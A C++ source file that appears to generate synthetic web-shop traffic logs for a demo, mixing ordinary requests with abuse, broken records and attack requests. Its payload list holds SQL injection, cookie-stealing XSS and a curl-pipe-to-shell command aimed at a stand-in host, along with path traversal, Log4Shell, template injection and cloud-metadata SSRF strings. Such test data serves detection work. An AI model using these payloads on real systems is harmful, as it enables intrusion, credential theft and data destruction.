#include "app/demo/demo_traffic.h"

#include <rapidjson/stringbuffer.h>
#include <rapidjson/writer.h>

#include <string_view>

#include "base/hex.h"

namespace weir {
namespace {

// So many of 10,000 records are attacks, come from abusers, or are broken; the rest is ordinary.
constexpr size_t kOutOf = 10'000;
constexpr size_t kAttacks = 60;
constexpr size_t kAbuses = 150;
constexpr size_t kBroken = 5;
constexpr size_t kCutBytes = 30;  // of a broken line: not enough to tell what was requested

constexpr size_t kCustomers = 8'000;  // so many that none of them sends more than a person does, at the usual rate
constexpr size_t kAttackers = 6;
constexpr size_t kAbusers = 4;

const std::vector<std::string> kBrowsers{
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 "
    "Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 "
    "Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Mobile "
    "Safari/537.36",
};
const std::vector<std::string> kWords{"kettle", "lamp",   "desk",    "notebook", "scarf",
                                      "teapot", "garden", "bicycle", "mirror",   "rope"};

/// An attack as the attacker means it; how it is wrapped is decided per request.
const std::vector<std::string> kPayloads{
    "' OR 1=1 -- ",
    "1 UNION ALL SELECT username, password FROM users -- ",
    "1; DROP TABLE orders; -- ",
    "1' AND SLEEP(5) AND 'a'='a",
    "<script>fetch('//collect.example/?c='+document.cookie)</script>",
    "<img src=x onerror=alert(document.domain)>",
    "<svg/onload=confirm(1)>",
    "../../../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "php://filter/convert.base64-encode/resource=index.php",
    "; cat /etc/passwd",
    "$(curl http://collect.example/x.sh | sh)",
    "`id`; uname -a",
    "${jndi:ldap://collect.example:1389/a}",
    "{{7*7}}{{config.items()}}",
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "*)(uid=*))(|(uid=*",
};

}  // namespace

struct DemoTraffic::Request {
  std::string client_id, address, user_agent, method = "GET", path = "/", query, body, content_type, referer;
  int status = 200;
  double duration_ms = 12;
};

DemoTraffic::DemoTraffic(uint64_t seed) : random_(seed) {
  const auto customer = [&](const char* prefix, size_t i, const char* network) {
    return Customer{prefix + std::to_string(1000 + i),
                    network + std::to_string(i / 250) + "." + std::to_string(i % 250 + 1), pick_from(kBrowsers)};
  };
  for (size_t i = 0; i < kCustomers; ++i)
    customers_.push_back(customer("customer-", i, "198.51."));
  for (size_t i = 0; i < kAttackers; ++i)
    attackers_.push_back(customer("attacker-", i, "203.0."));
  for (size_t i = 0; i < kAbusers; ++i)
    abusers_.push_back(customer("abuser-", i, "192.0."));
}

std::string DemoTraffic::next(EventTime now) {
  ++number_;
  Request request;
  const size_t draw = pick(kOutOf);
  if (draw < kAttacks) {
    attack(request);
  } else if (draw < kAttacks + kAbuses) {
    abuse(request);
  } else {
    shop(request);
  }
  std::string record = write(request, now);
  if (draw >= kOutOf - kBroken) record.resize(kCutBytes);
  return record;
}

void DemoTraffic::shop(Request& request) {
  const Customer& customer = pick_from(customers_);
  request.client_id = customer.id;
  request.address = customer.address;
  request.user_agent = customer.user_agent;
  request.duration_ms = 3.0 + static_cast<double>(pick(400)) / 10;
  request.referer = "https://shop.example/";
  switch (pick(6)) {
    case 0:
      request.path = "/products/" + std::to_string(pick(90'000));
      break;
    case 1:
      request.path = "/search";
      request.query = "q=" + pick_from(kWords) + "+" + pick_from(kWords) + "&page=" + std::to_string(1 + pick(9));
      break;
    case 2:
      request.method = "POST";
      request.path = "/api/cart";
      request.content_type = "application/json";
      request.body = R"({"sku":")" + pick_from(kWords) + R"(","quantity":)" + std::to_string(1 + pick(4)) + "}";
      request.status = 201;
      break;
    case 3:
      request.path = "/static/" + pick_from(kWords) + ".css";
      break;
    case 4:
      request.path = "/api/orders";
      request.query = "status=open&limit=50";
      break;
    default:
      request.path = "/blog/2025/" + pick_from(kWords) + "-and-" + pick_from(kWords) + "/";
      break;
  }
  if (pick(40) == 0) request.status = 404;
}

void DemoTraffic::attack(Request& request) {
  const Customer& attacker = pick_from(attackers_);
  request.client_id = attacker.id;
  request.address = attacker.address;
  request.user_agent = attacker.user_agent;
  request.status = pick(3) == 0 ? 500 : 200;
  const std::string& payload = pick_from(kPayloads);
  switch (pick(5)) {
    case 0:
      request.method = "POST";
      request.path = "/login";
      request.content_type = "application/x-www-form-urlencoded";
      request.body = "user=" + percent_encoded(payload) + "&remember=on";
      break;
    case 1: {
      rapidjson::StringBuffer buffer;
      rapidjson::Writer<rapidjson::StringBuffer> json(buffer);
      json.StartObject();
      json.Key("comment");
      json.String(payload.c_str());
      json.EndObject();
      request.method = "POST";
      request.path = "/api/reviews";
      request.content_type = "application/json";
      request.body = buffer.GetString();
      break;
    }
    case 2:
      request.path = "/search";
      request.query = "q=" + percent_encoded(percent_encoded(payload));
      break;
    default:
      request.path = "/products";
      request.query = "id=" + percent_encoded(payload);
      break;
  }
}

void DemoTraffic::abuse(Request& request) {
  const Customer& abuser = pick_from(abusers_);
  request.client_id = abuser.id;
  request.address = "192.0.2." + std::to_string(1 + pick(200));
  request.user_agent = pick_from(kBrowsers);
  request.path = "/api/prices/" + std::to_string(pick(90'000));
}

std::string DemoTraffic::write(const Request& request, EventTime now) {
  rapidjson::StringBuffer buffer;
  rapidjson::Writer<rapidjson::StringBuffer> json(buffer);
  const auto text = [&](const char* name, const std::string& value) {
    if (value.empty()) return;
    json.Key(name);
    json.String(value.c_str(), static_cast<rapidjson::SizeType>(value.size()));
  };
  json.StartObject();
  text("ts", format_rfc3339(now));
  text("request_id", "demo-" + std::to_string(number_));
  text("client_id", request.client_id);
  text("ip", request.address);
  text("method", request.method);
  text("scheme", "https");
  text("host", "shop.example");
  text("path", request.path);
  text("query", request.query);
  json.Key("status");
  json.Int(request.status);
  json.Key("duration_ms");
  json.Double(request.duration_ms);
  text("user_agent", request.user_agent);
  text("referer", request.referer);
  text("content_type", request.content_type);
  text("body", request.body);
  json.EndObject();
  return {buffer.GetString(), buffer.GetSize()};
}

}  // namespace weir
